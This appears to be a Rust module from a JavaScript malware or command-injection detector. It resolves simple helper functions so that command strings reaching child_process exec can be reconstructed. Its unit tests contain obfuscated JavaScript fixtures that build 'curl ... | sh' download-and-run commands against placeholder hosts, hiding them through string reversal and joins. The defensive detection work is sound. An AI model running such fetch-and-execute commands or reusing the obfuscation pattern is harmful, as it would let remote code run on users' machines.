//! What a JavaScript helper is, for [`HelperCalls`] (see `helper_calls.rs`): `exec(fetchCommand())`
//! where `function fetchCommand() { return ['curl', '-fsSL', url(), '|', 'sh'].join(' '); }` runs that
//! command line.
//!
//! Only the plainest helpers are followed: a top-level `function name(a, b) { … }` or `const name = (s) =>
//! …` whose parameters are plain names, defined once and never reassigned, whose body (for its return
//! value) is straight-line code (`const`/`let`/`var` declarations of plain names, then `return
//! <expression>`) or an arrow's expression: `flip(s)` returning `s.split('').reverse().join('')`. Anything
//! else (defaults, destructuring, rest parameters, branches) leaves the call unknown.

use super::super::helper_calls::{
    Helper, HelperCalls, Helpers, MAX_HELPER_PARAMETERS, MAX_HELPER_STATEMENTS,
};
use super::super::values::Value;
use super::super::Env;
use super::Walker;
use crate::fields::FieldChild;
use tree_sitter::Node;

/// The helper `function` (a declaration, arrow or function expression) is, if it is declared at the top
/// of the module and its parameters are plain names.
pub(super) fn helper<'t>(function: Node<'t>, text: &'t str) -> Option<Helper<'t>> {
    let parameters = plain_parameters(function)?
        .into_iter()
        .map(|p| {
            let name = p.field_child("pattern").unwrap_or(p);
            name.utf8_text(text.as_bytes()).unwrap_or("")
        })
        .collect();
    let body = function.field_child("body")?;
    is_top_level(function).then_some(Helper { body, parameters })
}

/// A function's parameters when each is a plain name (`(a, b)`, or an arrow's bare `s`).
fn plain_parameters(function: Node) -> Option<Vec<Node>> {
    if let Some(single) = function.field_child("parameter") {
        return (single.kind() == "identifier").then(|| vec![single]);
    }
    let parameters = function.field_child("parameters")?;
    let mut cursor = parameters.walk();
    let list: Vec<Node> = parameters
        .named_children(&mut cursor)
        .filter(|p| p.kind() != "comment")
        .collect();
    let plain = list.len() <= MAX_HELPER_PARAMETERS
        && list.iter().all(|p| {
            p.kind() == "identifier"
                || (p.kind() == "required_parameter"
                    && p.field_child("pattern")
                        .is_some_and(|n| n.kind() == "identifier")
                    && p.field_child("value").is_none())
        });
    plain.then_some(list)
}

/// Whether a function is declared at the top of the module (not a method or a nested closure).
fn is_top_level(function: Node) -> bool {
    let mut at = function.parent();
    while let Some(parent) = at {
        match parent.kind() {
            "program" => return true,
            "statement_block" | "class_body" | "arguments" | "object" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> HelperCalls<'t> for Walker<'t, '_> {
    const UNPOSITIONAL: &'static [&'static str] = &["spread_element"];

    fn helpers(&mut self) -> &mut Helpers<'t> {
        &mut self.helpers
    }

    fn scopes(&mut self) -> &mut Env {
        &mut self.env
    }

    fn source(&self, node: Node<'t>) -> &'t str {
        self.src(node)
    }

    fn value_of(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        self.eval(node, depth)
    }

    fn walk_body(&mut self, body: Node<'t>) {
        self.walk(body, 0);
    }

    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        if body.kind() != "statement_block" {
            // `() => expression`
            return self.eval(body, depth + 1);
        }
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind() {
                "comment" | "empty_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "lexical_declaration" | "variable_declaration" => {
                    let mut cursor = statement.walk();
                    let declarators: Vec<Node<'t>> =
                        statement.named_children(&mut cursor).collect();
                    for declarator in declarators {
                        let name = declarator.field_child("name")?;
                        if name.kind() != "identifier" {
                            return None;
                        }
                        let value = declarator
                            .field_child("value")
                            .and_then(|v| self.eval(v, depth + 1));
                        let name = self.src(name);
                        self.env.set(name, value);
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = javascript(concat!(
            "const { exec } = require('child_process');\n",
            "const HOST = 'https://t.example.invalid';\n",
            "function bootUrl() { return HOST + '/boot.sh'; }\n",
            "const command = () => ['curl', '-fsSL', bootUrl(), '|', 'sh'].join(' ');\n",
            "function go() { exec(command(), () => {}); }\n",
            "go();\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("\"curl -fsSL https://t.example.invalid/boot.sh | sh\"")),
            "{found:?}"
        );
    }

    #[test]
    fn a_helper_with_parameters_returns_what_its_arguments_make() {
        let found = javascript(concat!(
            "const flip = (s) => s.split('').reverse().join('');\n",
            "function line(url, tail) { const head = 'curl -s '; return head + url + tail; }\n",
            "require('child_process')[flip('cexe')](line(flip('hs.i/0.311.0.302//:ptth'), ' | sh'));\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://203.0.113.0/i.sh | sh\")")),
            "{found:?}"
        );
    }

    #[test]
    fn a_sink_inside_a_helper_reads_what_each_call_passes() {
        let found = javascript(concat!(
            "function run(c) {\n",
            "  if (c) { require('child_process').exec(c, { windowsHide: true }); }\n",
            "}\n",
            "const target = ['http:', '', '198.51.100.23', 'c.sh'].join('/');\n",
            "run('curl -s ' + target + ' | bash');\n",
            "run(process.argv[2]);\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_nesting_or_reassignment_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nfunction cmd(x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction cmd(x = 'a') { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd(...x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd() { if (a) { return 'curl -s https://a.invalid | sh'; } return 'ls'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nlet cmd = () => 'curl -s https://a.invalid | sh';\ncmd = load();\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction a() { return b() + 'x'; }\nfunction b() { return a() + 'y'; }\ncp.exec(a());\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }
}
